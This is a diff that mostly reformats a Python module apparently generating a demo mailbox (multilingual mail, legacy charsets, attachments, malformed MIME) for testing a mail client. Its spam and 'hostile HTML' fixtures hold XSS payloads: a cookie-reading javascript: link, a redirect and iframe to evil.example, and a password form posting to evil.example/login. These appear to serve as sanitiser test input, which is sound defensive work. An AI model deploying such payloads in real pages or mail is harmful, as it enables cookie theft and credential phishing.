@@ -132,27 +132,59 @@ SENTENCES = [
     "Here is the link to the shared folder with the drafts.",
 ]
 FOREIGN: dict[str, tuple[str, list[str]]] = {
-    "de": ("Grüße aus München", ["Vielen Dank für die schnelle Antwort.",
-                                  "Können wir das Treffen auf Dienstag verschieben?",
-                                  "Die Unterlagen schicke ich dir morgen früh."]),
-    "pl": ("Pozdrowienia z Łodzi", ["Dziękuję za szybką odpowiedź.",
-                                    "Czy możemy przełożyć spotkanie na wtorek?",
-                                    "Żółw zjadł źdźbło trawy."]),
-    "ru": ("Отчёт за квартал", ["Спасибо за быстрый ответ.",
-                                "Можем ли мы перенести встречу на вторник?",
-                                "Документы пришлю завтра утром."]),
-    "ja": ("会議の議事録", ["お疲れ様です。",
-                          "会議の資料を添付します。",
-                          "来週の火曜日はいかがでしょうか。"]),
-    "fr": ("Réunion de l'équipe", ["Merci pour ta réponse rapide.",
-                                   "Peut-on déplacer la réunion à mardi ?",
-                                   "Je t'envoie les documents demain matin, à bientôt."]),
-    "es": ("Reunión del martes", ["Gracias por la respuesta rápida.",
-                                  "¿Podemos mover la reunión al martes?",
-                                  "Te envío los documentos mañana por la mañana."]),
+    "de": (
+        "Grüße aus München",
+        [
+            "Vielen Dank für die schnelle Antwort.",
+            "Können wir das Treffen auf Dienstag verschieben?",
+            "Die Unterlagen schicke ich dir morgen früh.",
+        ],
+    ),
+    "pl": (
+        "Pozdrowienia z Łodzi",
+        [
+            "Dziękuję za szybką odpowiedź.",
+            "Czy możemy przełożyć spotkanie na wtorek?",
+            "Żółw zjadł źdźbło trawy.",
+        ],
+    ),
+    "ru": (
+        "Отчёт за квартал",
+        [
+            "Спасибо за быстрый ответ.",
+            "Можем ли мы перенести встречу на вторник?",
+            "Документы пришлю завтра утром.",
+        ],
+    ),
+    "ja": (
+        "会議の議事録",
+        ["お疲れ様です。", "会議の資料を添付します。", "来週の火曜日はいかがでしょうか。"],
+    ),
+    "fr": (
+        "Réunion de l'équipe",
+        [
+            "Merci pour ta réponse rapide.",
+            "Peut-on déplacer la réunion à mardi ?",
+            "Je t'envoie les documents demain matin, à bientôt.",
+        ],
+    ),
+    "es": (
+        "Reunión del martes",
+        [
+            "Gracias por la respuesta rápida.",
+            "¿Podemos mover la reunión al martes?",
+            "Te envío los documentos mañana por la mañana.",
+        ],
+    ),
 }
-BODY_CHARSETS = {"de": "iso-8859-1", "fr": "windows-1252", "ru": "koi8-r", "ja": "shift_jis",
-                 "pl": "iso-8859-2", "es": "utf-8"}
+BODY_CHARSETS = {
+    "de": "iso-8859-1",
+    "fr": "windows-1252",
+    "ru": "koi8-r",
+    "ja": "shift_jis",
+    "pl": "iso-8859-2",
+    "es": "utf-8",
+}
 
 
 # ---------------------------------------------------------------- binary bits
@@ -241,13 +273,12 @@ def _compose(headers: list[tuple[str, str]], body: MIMEPart | None) -> bytes:
     for n, part in enumerate(body.walk()):
         if part.get_content_maintype() == "multipart" and part.get_boundary() is None:
             part.set_boundary(f"=_demo_{digest}_{n}")
-    return _header_block([*headers, ("MIME-Version", "1.0")]) + body.as_bytes(
-        policy=default_policy
-    )
+    return _header_block([*headers, ("MIME-Version", "1.0")]) + body.as_bytes(policy=default_policy)
 
 
-def _text(text: str, *, charset: str = "utf-8", cte: str | None = None,
-          flowed: bool = False, subtype: str = "plain") -> MIMEPart:
+def _text(
+    text: str, *, charset: str = "utf-8", cte: str | None = None, flowed: bool = False, subtype: str = "plain"
+) -> MIMEPart:
     part = MIMEPart(policy=default_policy)
     params = {"format": "flowed"} if flowed else None
     part.set_content(text, subtype=subtype, charset=charset, cte=cte, params=params)
@@ -277,10 +308,10 @@ def _flowed(text: str, width: int = 66) -> str:
 def _html_page(title: str, paragraphs: list[str], extra: str = "") -> str:
     body = "".join(f"<p>{p}</p>" for p in paragraphs)
     return (
-        "<!DOCTYPE html><html><head><meta charset=\"utf-8\">"
+        '<!DOCTYPE html><html><head><meta charset="utf-8">'
         f"<title>{title}</title><style>body{{font-family:sans-serif;color:#222}}"
         ".muted{color:#777;font-size:12px}</style></head>"
-        f"<body><h2 style=\"color:#2a5db0\">{title}</h2>{body}{extra}</body></html>"
+        f'<body><h2 style="color:#2a5db0">{title}</h2>{body}{extra}</body></html>'
     )
 
 
@@ -344,10 +375,18 @@ class _Builder:
             flags += "R"
         return flags
 
-    def headers(self, sender: Contact, to: list[Contact], subject: str, ts: float, *,
-                cc: list[Contact] | None = None, subject_charset: str | None = None,
-                extra: list[tuple[str, str]] | None = None,
-                msgid: str | None = None) -> list[tuple[str, str]]:
+    def headers(
+        self,
+        sender: Contact,
+        to: list[Contact],
+        subject: str,
+        ts: float,
+        *,
+        cc: list[Contact] | None = None,
+        subject_charset: str | None = None,
+        extra: list[tuple[str, str]] | None = None,
+        msgid: str | None = None,
+    ) -> list[tuple[str, str]]:
         hdrs = [
             ("Date", _date(ts, sender[3])),
             ("From", _addr(sender)),
@@ -368,14 +407,13 @@ class _Builder:
 
     def letter(self, sender: Contact, recipient: Contact, paras: list[str]) -> str:
         return (
-            f"Hi {_first(recipient[0])},\n\n" + "\n\n".join(paras)
+            f"Hi {_first(recipient[0])},\n\n"
+            + "\n\n".join(paras)
             + f"\n\nBest regards,\n{_first(sender[0])}\n"
         )
 
     def topic(self, topics: list[str]) -> str:
-        return self.rng.choice(topics).format(
-            n=self.rng.randint(100, 9999), q=self.rng.randint(1, 4)
-        )
+        return self.rng.choice(topics).format(n=self.rng.randint(100, 9999), q=self.rng.randint(1, 4))
 
     # ------------------------------------------------------------ filler
     def filler(self, folder: str, ts: float) -> bytes:
@@ -397,8 +435,7 @@ class _Builder:
             # Mail in the contact's own language and legacy charset.
             foreign_subject, lines = FOREIGN[lang]
             charset = BODY_CHARSETS[lang]
-            hdrs = self.headers(sender, [rcpt], foreign_subject, ts,
-                                subject_charset=contact[2] or "utf-8")
+            hdrs = self.headers(sender, [rcpt], foreign_subject, ts, subject_charset=contact[2] or "utf-8")
             text = "\n\n".join(rng.sample(lines, len(lines))) + f"\n\n{_first(sender[0])}\n"
             return _compose(hdrs, _text(text, charset=charset))
         paras = self.paragraphs(rng.randint(1, 4))
@@ -416,12 +453,12 @@ class _Builder:
         body.make_mixed()
         choice = rng.randrange(3)
         if choice == 0:
-            body.add_attachment(tiny_pdf(subject), "application", "pdf",
-                                filename=f"{subject[:20].strip()}.pdf")
+            body.add_attachment(
+                tiny_pdf(subject), "application", "pdf", filename=f"{subject[:20].strip()}.pdf"
+            )
         elif choice == 1:
             rows = "\n".join(f"{i},{rng.randint(1, 999)},{rng.random():.3f}" for i in range(40))
-            body.add_attachment("id,amount,ratio\n" + rows + "\n", subtype="csv",
-                                filename="export.csv")
+            body.add_attachment("id,amount,ratio\n" + rows + "\n", subtype="csv", filename="export.csv")
         else:
             body.add_attachment(self.png, "image", "png", filename="screenshot.png")
         return _compose(hdrs, body)
@@ -431,11 +468,17 @@ class _Builder:
         issue = rng.randint(10, 400)
         subject = f"{sender[0]} — issue #{issue}"
         unsubscribe = f"<https://{_domain(sender[1])}/unsubscribe?u=demo>"
-        hdrs = self.headers(sender, [self.me], subject, ts, extra=[
-            ("List-Unsubscribe", unsubscribe),
-            ("List-Id", f"<news.{_domain(sender[1])}>"),
-            ("Precedence", "bulk"),
-        ])
+        hdrs = self.headers(
+            sender,
+            [self.me],
+            subject,
+            ts,
+            extra=[
+                ("List-Unsubscribe", unsubscribe),
+                ("List-Id", f"<news.{_domain(sender[1])}>"),
+                ("Precedence", "bulk"),
+            ],
+        )
         host = _domain(sender[1])
         items = "".join(
             f'<tr><td><img src="https://cdn.{host}/img/{issue}-{i}.jpg" width="120" '
@@ -456,12 +499,14 @@ class _Builder:
         return _compose(hdrs, _alternative(text, html))
 
     def spam(self, sender: Contact, ts: float) -> bytes:
-        subject = self.rng.choice([
-            "You have WON $1,000,000!!!",
-            "Urgent: verify your account now",
-            "Lowest prices guaranteed",
-            "Ｆｒｅｅ ｇｉｆｔ ｃａｒｄ inside",
-        ])
+        subject = self.rng.choice(
+            [
+                "You have WON $1,000,000!!!",
+                "Urgent: verify your account now",
+                "Lowest prices guaranteed",
+                "Ｆｒｅｅ ｇｉｆｔ ｃａｒｄ inside",
+            ]
+        )
         hdrs = self.headers(sender, [self.me], subject, ts, extra=[("X-Spam-Flag", "YES")])
         html = (
             "<html><body onload=\"steal()\"><script>document.location='https://evil.example/'"
@@ -490,33 +535,53 @@ class _Builder:
 
         # Plain UTF-8 text with a non-ASCII sender and subject.
         ts = when()
-        add(_compose(self.headers(zoe, [me], "Grüße aus München – Treffen am Dienstag?", ts),
-                     _text("Hallo Alice,\n\nkönnen wir uns am Dienstag um 10:00 treffen?\n"
-                           "Die Unterlagen schicke ich dir vorher.\n\nViele Grüße\nZoë\n")), ts)
+        add(
+            _compose(
+                self.headers(zoe, [me], "Grüße aus München – Treffen am Dienstag?", ts),
+                _text(
+                    "Hallo Alice,\n\nkönnen wir uns am Dienstag um 10:00 treffen?\n"
+                    "Die Unterlagen schicke ich dir vorher.\n\nViele Grüße\nZoë\n"
+                ),
+            ),
+            ts,
+        )
         # HTML only.
         ts = when()
-        add(_compose(self.headers(carol, [me], "Q3 numbers (HTML only)", ts),
-                     _text(_html_page("Q3 numbers", [
-                         "Revenue is <b>up 12%</b> compared to Q2.",
-                         '<table border="1"><tr><th>Region</th><th>Sales</th></tr>'
-                         "<tr><td>EMEA</td><td>1,204</td></tr><tr><td>APAC</td><td>987</td></tr>"
-                         "</table>"]), subtype="html")), ts)
+        add(
+            _compose(
+                self.headers(carol, [me], "Q3 numbers (HTML only)", ts),
+                _text(
+                    _html_page(
+                        "Q3 numbers",
+                        [
+                            "Revenue is <b>up 12%</b> compared to Q2.",
+                            '<table border="1"><tr><th>Region</th><th>Sales</th></tr>'
+                            "<tr><td>EMEA</td><td>1,204</td></tr><tr><td>APAC</td><td>987</td></tr>"
+                            "</table>",
+                        ],
+                    ),
+                    subtype="html",
+                ),
+            ),
+            ts,
+        )
         # multipart/alternative.
         ts = when()
         paras = self.paragraphs(3)
-        add(_compose(self.headers(priya, [me], "Design review follow-up", ts, cc=[noah]),
-                     _alternative(self.letter(priya, me, paras),
-                                  _html_page("Design review", paras))), ts)
+        add(
+            _compose(
+                self.headers(priya, [me], "Design review follow-up", ts, cc=[noah]),
+                _alternative(self.letter(priya, me, paras), _html_page("Design review", paras)),
+            ),
+            ts,
+        )
         # Attachments, with an RFC 2231 UTF-8 file name.
         ts = when()
         body = _text("Привет!\n\nОтчёт во вложении, таблица тоже.\n\nДмитрий\n")
         body.make_mixed()
-        body.add_attachment(tiny_pdf("Quarterly report"), "application", "pdf",
-                            filename="Отчёт.pdf")
-        body.add_attachment("month,total\n2026-01,12\n2026-02,17\n", subtype="csv",
-                            filename="данные.csv")
-        add(_compose(self.headers(dmitry, [me], "Отчёт за квартал", ts,
-                                  subject_charset="koi8-r"), body), ts)
+        body.add_attachment(tiny_pdf("Quarterly report"), "application", "pdf", filename="Отчёт.pdf")
+        body.add_attachment("month,total\n2026-01,12\n2026-02,17\n", subtype="csv", filename="данные.csv")
+        add(_compose(self.headers(dmitry, [me], "Отчёт за квартал", ts, subject_charset="koi8-r"), body), ts)
         # The same kind of file name in RFC 2231 koi8-r, written by hand.
         ts = when()
         add(self.koi8r_attachment(dmitry, ts), ts)
@@ -524,44 +589,76 @@ class _Builder:
         ts = when()
         body = _text("Hi Alice,\n\nall the files from today's session are attached.\n\nNoah\n")
         body.make_mixed()
-        body.add_attachment("Meeting notes\n=============\n- ship it\n- test it\n",
-                            filename="notes.txt")
+        body.add_attachment("Meeting notes\n=============\n- ship it\n- test it\n", filename="notes.txt")
         body.add_attachment("a,b\n1,2\n3,4\n", subtype="csv", filename="numbers.csv")
-        body.add_attachment(tiny_png(64, 48, (40, 120, 200)), "image", "png",
-                            filename="whiteboard.png")
+        body.add_attachment(tiny_png(64, 48, (40, 120, 200)), "image", "png", filename="whiteboard.png")
         body.add_attachment(tiny_pdf("Agenda"), "application", "pdf", filename="agenda.pdf")
-        add(_compose(self.headers(noah, [me], "Files from today's session", ts), body), ts,
-            flags="F")
+        add(_compose(self.headers(noah, [me], "Files from today's session", ts), body), ts, flags="F")
         # HTML with inline cid: images (multipart/related).
         ts = when()
         related = MIMEPart(policy=default_policy)
         related.set_content("Our new logo is below. (Your mail client shows text only.)\n")
         related.add_alternative(
-            _html_page("New logo", [
-                'Here it is: <img src="cid:logo@demo" alt="logo" width="64" height="64">',
-                'And the colour swatch: <img src="cid:swatch@demo" alt="swatch">'],
-            ), subtype="html")
+            _html_page(
+                "New logo",
+                [
+                    'Here it is: <img src="cid:logo@demo" alt="logo" width="64" height="64">',
+                    'And the colour swatch: <img src="cid:swatch@demo" alt="swatch">',
+                ],
+            ),
+            subtype="html",
+        )
         html_part = related.get_payload()[1]
-        html_part.add_related(tiny_png(64, 64, (250, 180, 0)), "image", "png",
-                              cid="<logo@demo>", filename="logo.png")
-        html_part.add_related(tiny_png(16, 16, (20, 160, 90)), "image", "png",
-                              cid="<swatch@demo>")
+        html_part.add_related(
+            tiny_png(64, 64, (250, 180, 0)), "image", "png", cid="<logo@demo>", filename="logo.png"
+        )
+        html_part.add_related(tiny_png(16, 16, (20, 160, 90)), "image", "png", cid="<swatch@demo>")
         add(_compose(self.headers(jose, [me], "Nuevo logotipo 🎨", ts), related), ts)
         # Legacy charsets in the body and RFC 2047 subjects in their own charsets.
         for contact, subject, text, charset, cte in [
-            (francois, "Réunion de l'équipe à 14h", "Bonjour Alice,\n\nLa réunion est "
-             "déplacée à 14h, salle Molière.\n\nÀ bientôt,\nFrançois\n", "iso-8859-1",
-             "quoted-printable"),
-            (francois, "“Smart quotes” cost 5 €", "Hello,\n\nThe “premium” plan costs 5 € "
-             "— that’s all.\n\nFrançois\n", "windows-1252", "8bit"),
-            (dmitry, "Документы на подпись", "Алиса, добрый день!\n\nДокументы на подпись "
-             "во вложении к следующему письму.\n\nС уважением,\nДмитрий\n", "koi8-r", "8bit"),
-            (taro, "会議の議事録", "アリスさん\n\nお疲れ様です。会議の議事録を送ります。\n\n山田\n",
-             "shift_jis", "base64"),
-            (taro, "来週の予定について", "アリスさん\n\n来週の火曜日はいかがでしょうか。\n\n山田太郎\n",
-             "iso-2022-jp", "7bit"),
-            (lukasz, "Zażółć gęślą jaźń", "Cześć Alice,\n\nŻółw zjadł źdźbło trawy.\n\n"
-             "Łukasz\n", "iso-8859-2", "quoted-printable"),
+            (
+                francois,
+                "Réunion de l'équipe à 14h",
+                "Bonjour Alice,\n\nLa réunion est déplacée à 14h, salle Molière.\n\nÀ bientôt,\nFrançois\n",
+                "iso-8859-1",
+                "quoted-printable",
+            ),
+            (
+                francois,
+                "“Smart quotes” cost 5 €",
+                "Hello,\n\nThe “premium” plan costs 5 € — that’s all.\n\nFrançois\n",
+                "windows-1252",
+                "8bit",
+            ),
+            (
+                dmitry,
+                "Документы на подпись",
+                "Алиса, добрый день!\n\nДокументы на подпись "
+                "во вложении к следующему письму.\n\nС уважением,\nДмитрий\n",
+                "koi8-r",
+                "8bit",
+            ),
+            (
+                taro,
+                "会議の議事録",
+                "アリスさん\n\nお疲れ様です。会議の議事録を送ります。\n\n山田\n",
+                "shift_jis",
+                "base64",
+            ),
+            (
+                taro,
+                "来週の予定について",
+                "アリスさん\n\n来週の火曜日はいかがでしょうか。\n\n山田太郎\n",
+                "iso-2022-jp",
+                "7bit",
+            ),
+            (
+                lukasz,
+                "Zażółć gęślą jaźń",
+                "Cześć Alice,\n\nŻółw zjadł źdźbło trawy.\n\nŁukasz\n",
+                "iso-8859-2",
+                "quoted-printable",
+            ),
         ]:
             ts = when()
             header_cs = "iso-2022-jp" if charset == "shift_jis" else charset
@@ -570,42 +667,63 @@ class _Builder:
         # format=flowed.
         ts = when()
         long_text = (
-            "Hi Alice,\n\n" + " ".join(SENTENCES[:8]) + "\n\n> " + SENTENCES[9]
-            + "\n\n" + " ".join(SENTENCES[8:]) + "\n\n-- \nCarol\n"
+            "Hi Alice,\n\n"
+            + " ".join(SENTENCES[:8])
+            + "\n\n> "
+            + SENTENCES[9]
+            + "\n\n"
+            + " ".join(SENTENCES[8:])
+            + "\n\n-- \nCarol\n"
         )
-        add(_compose(self.headers(carol, [me], "Long thoughts (format=flowed)", ts),
-                     _text(_flowed(long_text), flowed=True)), ts)
+        add(
+            _compose(
+                self.headers(carol, [me], "Long thoughts (format=flowed)", ts),
+                _text(_flowed(long_text), flowed=True),
+            ),
+            ts,
+        )
         # A forwarded message as message/rfc822.
         ts = when()
         inner_ts = ts - 5 * DAY
-        inner = _compose(self.headers(priya, [bob], "Offsite venue options", inner_ts),
-                         _alternative("Option A: the lake house.\nOption B: the city loft.\n",
-                                      _html_page("Venues", ["Option A: the lake house.",
-                                                            "Option B: the city loft."])))
+        inner = _compose(
+            self.headers(priya, [bob], "Offsite venue options", inner_ts),
+            _alternative(
+                "Option A: the lake house.\nOption B: the city loft.\n",
+                _html_page("Venues", ["Option A: the lake house.", "Option B: the city loft."]),
+            ),
+        )
         body = _text("Alice, forwarding this for you — see below.\n\nBob\n")
         body.make_mixed()
-        body.add_attachment(message_from_bytes(inner, policy=default_policy),
-                            disposition="inline")
+        body.add_attachment(message_from_bytes(inner, policy=default_policy), disposition="inline")
         add(_compose(self.headers(bob, [me], "Fwd: Offsite venue options", ts), body), ts)
         # Hostile HTML: remote images, script, handlers, javascript: links, forms.
         ts = when()
         html = (
             "<html><head><script>alert('xss')</script>"
-            "<link rel=\"stylesheet\" href=\"https://tracker.example/style.css\">"
+            '<link rel="stylesheet" href="https://tracker.example/style.css">'
             "<style>@import url(https://tracker.example/x.css); p{color:red}</style></head>"
-            "<body onload=\"alert(1)\"><p>Your parcel is on its way.</p>"
-            "<img src=\"https://tracker.example/pixel.gif?id=42\" width=\"1\" height=\"1\">"
-            "<img src=\"http://images.example/parcel.jpg\" alt=\"parcel\">"
-            "<p style=\"background:url(https://tracker.example/bg.png)\">Track it "
-            "<a href=\"javascript:alert(document.cookie)\">here</a> or "
-            "<a href=\"https://shipping.example/track/42\">here</a>.</p>"
-            "<iframe src=\"https://evil.example/\"></iframe>"
-            "<form action=\"https://evil.example/login\"><input name=\"password\"></form>"
-            "<svg onload=\"alert(2)\"><circle r=\"4\"/></svg></body></html>"
+            '<body onload="alert(1)"><p>Your parcel is on its way.</p>'
+            '<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">'
+            '<img src="http://images.example/parcel.jpg" alt="parcel">'
+            '<p style="background:url(https://tracker.example/bg.png)">Track it '
+            '<a href="javascript:alert(document.cookie)">here</a> or '
+            '<a href="https://shipping.example/track/42">here</a>.</p>'
+            '<iframe src="https://evil.example/"></iframe>'
+            '<form action="https://evil.example/login"><input name="password"></form>'
+            '<svg onload="alert(2)"><circle r="4"/></svg></body></html>'
         )
-        add(_compose(self.headers(("Parcel Service", "noreply@parcel.example", None, 2, "en"),
-                                  [me], "Your parcel is on its way", ts),
-                     _alternative("Your parcel is on its way.\n", html)), ts)
+        add(
+            _compose(
+                self.headers(
+                    ("Parcel Service", "noreply@parcel.example", None, 2, "en"),
+                    [me],
+                    "Your parcel is on its way",
+                    ts,
+                ),
+                _alternative("Your parcel is on its way.\n", html),
+            ),
+            ts,
+        )
         # Malformed messages, written byte by byte.
         for raw in self.malformed():
             ts = when()
@@ -613,21 +731,55 @@ class _Builder:
         # A thread: original in INBOX, our reply in Sent, their answer in INBOX.
         ts = when()
         orig_id = self.ids(_domain(carol[1]))
-        add(_compose(self.headers(carol, [me], "Offsite agenda", ts, msgid=orig_id),
-                     _text(self.letter(carol, me, self.paragraphs(2)))), ts, flags="RS")
+        add(
+            _compose(
+                self.headers(carol, [me], "Offsite agenda", ts, msgid=orig_id),
+                _text(self.letter(carol, me, self.paragraphs(2))),
+            ),
+            ts,
+            flags="RS",
+        )
         reply_ts = ts + 2 * 3600
         reply_id = self.ids(_domain(me[1]))
-        add(_compose(self.headers(me, [carol], "Re: Offsite agenda", reply_ts, msgid=reply_id,
-                                  extra=[("In-Reply-To", orig_id), ("References", orig_id)]),
-                     _text("Sounds good to me.\n\n> " + SENTENCES[0] + "\n")), reply_ts, "Sent")
+        add(
+            _compose(
+                self.headers(
+                    me,
+                    [carol],
+                    "Re: Offsite agenda",
+                    reply_ts,
+                    msgid=reply_id,
+                    extra=[("In-Reply-To", orig_id), ("References", orig_id)],
+                ),
+                _text("Sounds good to me.\n\n> " + SENTENCES[0] + "\n"),
+            ),
+            reply_ts,
+            "Sent",
+        )
         answer_ts = ts + 5 * 3600
-        add(_compose(self.headers(carol, [me], "Re: Offsite agenda", answer_ts, extra=[
-            ("In-Reply-To", reply_id), ("References", f"{orig_id} {reply_id}")]),
-            _text("Great, booked.\n")), answer_ts)
+        add(
+            _compose(
+                self.headers(
+                    carol,
+                    [me],
+                    "Re: Offsite agenda",
+                    answer_ts,
+                    extra=[("In-Reply-To", reply_id), ("References", f"{orig_id} {reply_id}")],
+                ),
+                _text("Great, booked.\n"),
+            ),
+            answer_ts,
+        )
         # Drafts (one without recipient display name, one with an attachment).
         ts = when()
-        add(_compose(self.headers(me, [priya], "Draft: proposal outline", ts),
-                     _text("Outline:\n1. Problem\n2. Options\n3. Recommendation\n")), ts, "Drafts")
+        add(
+            _compose(
+                self.headers(me, [priya], "Draft: proposal outline", ts),
+                _text("Outline:\n1. Problem\n2. Options\n3. Recommendation\n"),
+            ),
+            ts,
+            "Drafts",
+        )
         ts = when()
         body = _text("Hi Noah,\n\nsee the attached plan.\n")
         body.make_mixed()
@@ -643,17 +795,20 @@ class _Builder:
         hdrs = self.headers(sender, [self.me], "Отчёт (koi8-r)", ts, subject_charset="koi8-r")
         text = "Отчёт во вложении.\n".encode("koi8-r")
         return (
-            _header_block([*hdrs, ("MIME-Version", "1.0"),
-                           ("Content-Type", f'multipart/mixed; boundary="{boundary}"')])
+            _header_block(
+                [*hdrs, ("MIME-Version", "1.0"), ("Content-Type", f'multipart/mixed; boundary="{boundary}"')]
+            )
             + b"\nThis is a multipart message in MIME format.\n\n"
             + f"--{boundary}\n".encode()
             + b"Content-Type: text/plain; charset=koi8-r\nContent-Transfer-Encoding: 8bit\n\n"
-            + text + b"\n"
+            + text
+            + b"\n"
             + f"--{boundary}\n".encode()
             + f"Content-Type: application/pdf; name*=koi8-r''{quoted}\n".encode()
             + f"Content-Disposition: attachment; filename*=koi8-r''{quoted}\n".encode()
             + b"Content-Transfer-Encoding: base64\n\n"
-            + pdf.encode() + f"\n--{boundary}--\n".encode()
+            + pdf.encode()
+            + f"\n--{boundary}--\n".encode()
         )
 
     def malformed(self) -> list[bytes]:
@@ -661,9 +816,7 @@ class _Builder:
         mid = self.ids
         pdf64 = base64.encodebytes(tiny_pdf("truncated")).decode()
         truncated = pdf64[: len(pdf64) // 2].rstrip("\n")[:-3]  # cut mid-quantum
-        long_value = "".join(
-            random.Random(7).choices("abcdefghijklmnopqrstuvwxyz0123456789", k=100_000)
-        )
+        long_value = "".join(random.Random(7).choices("abcdefghijklmnopqrstuvwxyz0123456789", k=100_000))
         return [
             # Closing boundary missing.
             (
@@ -724,8 +877,15 @@ class _Builder:
             self.add(folder, raw, ts, flags)
         filler = max(0, count - len(showcase))
         weights = {
-            "INBOX": 0.36, "Sent": 0.14, "Drafts": 0.01, "Trash": 0.05, "Junk": 0.03,
-            "Archive": 0.15, "Projects": 0.06, "Projects/2026": 0.06, "Projects/2025": 0.06,
+            "INBOX": 0.36,
+            "Sent": 0.14,
+            "Drafts": 0.01,
+            "Trash": 0.05,
+            "Junk": 0.03,
+            "Archive": 0.15,
+            "Projects": 0.06,
+            "Projects/2026": 0.06,
+            "Projects/2025": 0.06,
             "Newsletters": 0.08,
         }
         plan = {f: int(filler * w) for f, w in weights.items()}
@@ -754,8 +914,7 @@ class _Builder:
         return lo, hi
 
 
-def demo_messages(owner: str, *, count: int = 320,
-                  end: float | None = None) -> dict[str, list[Item]]:
+def demo_messages(owner: str, *, count: int = 320, end: float | None = None) -> dict[str, list[Item]]:
     """The demo mailbox of ``owner``: folder → [(raw bytes, maildir flags, unix time)].
 
     ``end`` is the newest date (default: today 00:00 UTC); mail spreads over
@@ -789,8 +948,7 @@ _LOREM = (
 )
 
 
-def bulk_messages(owner: str, count: int, *, end: float | None = None,
-                  seed: int = 1) -> Iterator[Item]:
+def bulk_messages(owner: str, count: int, *, end: float | None = None, seed: int = 1) -> Iterator[Item]:
     """Yield ``count`` simple, varied messages quickly (for benchmark folders).
 
     Sizes range from about 1 to 20 KB; about 1 in 10 carries a small base64
@@ -815,21 +973,39 @@ def bulk_messages(owner: str, count: int, *, end: float | None = None,
         date = format_datetime(dt.datetime.fromtimestamp(ts, dt.UTC)).encode()
         size = randrange(700, 19_500)
         head = (
-            b"Date: " + date + b"\nFrom: " + choice(from_headers) + b"\nTo: " + to
-            + b"\nSubject: " + subject + b"\nMessage-ID: <bulk." + str(i).encode()
-            + b"." + str(seed).encode() + b"@bulk.example>\nMIME-Version: 1.0\n"
+            b"Date: "
+            + date
+            + b"\nFrom: "
+            + choice(from_headers)
+            + b"\nTo: "
+            + to
+            + b"\nSubject: "
+            + subject
+            + b"\nMessage-ID: <bulk."
+            + str(i).encode()
+            + b"."
+            + str(seed).encode()
+            + b"@bulk.example>\nMIME-Version: 1.0\n"
         )
         text = body_pool[:size]
         if i % 10 == 7:
             raw = (
-                head + b'Content-Type: multipart/mixed; boundary="b' + str(i).encode()
-                + b'"\n\n--b' + str(i).encode()
-                + b"\nContent-Type: text/plain; charset=us-ascii\n\n" + text
-                + b"\n--b" + str(i).encode()
+                head
+                + b'Content-Type: multipart/mixed; boundary="b'
+                + str(i).encode()
+                + b'"\n\n--b'
+                + str(i).encode()
+                + b"\nContent-Type: text/plain; charset=us-ascii\n\n"
+                + text
+                + b"\n--b"
+                + str(i).encode()
                 + b"\nContent-Type: application/octet-stream; name=data.bin\n"
                 b"Content-Disposition: attachment; filename=data.bin\n"
-                b"Content-Transfer-Encoding: base64\n\n" + choice(attachments)
-                + b"--b" + str(i).encode() + b"--\n"
+                b"Content-Transfer-Encoding: base64\n\n"
+                + choice(attachments)
+                + b"--b"
+                + str(i).encode()
+                + b"--\n"
             )
         else:
             raw = head + b"Content-Type: text/plain; charset=us-ascii\n\n" + text + b"\n"
@@ -875,9 +1051,13 @@ def _external_inbox(address: str, end: float | None) -> list[Item]:
             "Hello from a message with a long header line.\n"
         ).encode(),
         _compose(
-            [("Date", _date(last - 2 * 3600, 1)), ("From", _addr(CONTACTS[0])),
-             ("To", address), ("Subject", _subject("Übersicht mit Anhang")),
-             ("Message-ID", "<attach.2@example.de>")],
+            [
+                ("Date", _date(last - 2 * 3600, 1)),
+                ("From", _addr(CONTACTS[0])),
+                ("To", address),
+                ("Subject", _subject("Übersicht mit Anhang")),
+                ("Message-ID", "<attach.2@example.de>"),
+            ],
             _with_attachment(),
         ),
     ]
